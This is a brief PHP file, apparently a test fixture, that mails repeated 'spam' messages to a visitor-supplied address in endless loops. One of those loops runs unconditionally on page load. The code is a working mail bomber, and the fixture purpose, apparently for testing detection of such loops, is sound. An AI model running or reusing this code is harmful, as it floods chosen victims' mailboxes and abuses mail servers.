<?php
// test fixture: a mailbox the visitor names, mailed without end: for (;;) and do { } while (1)
$target = $_POST['target'];
$text = str_repeat('spam ', 20);
if (isset($_POST['go'])) {
    for (;;) {
        if (mail($target, 'Notice', $text)) {
            echo '.';
        }
        usleep(200000);
    }
}
do {
    mail($target, 'Notice', $text, 'From: noreply@example.net');
} while (true);
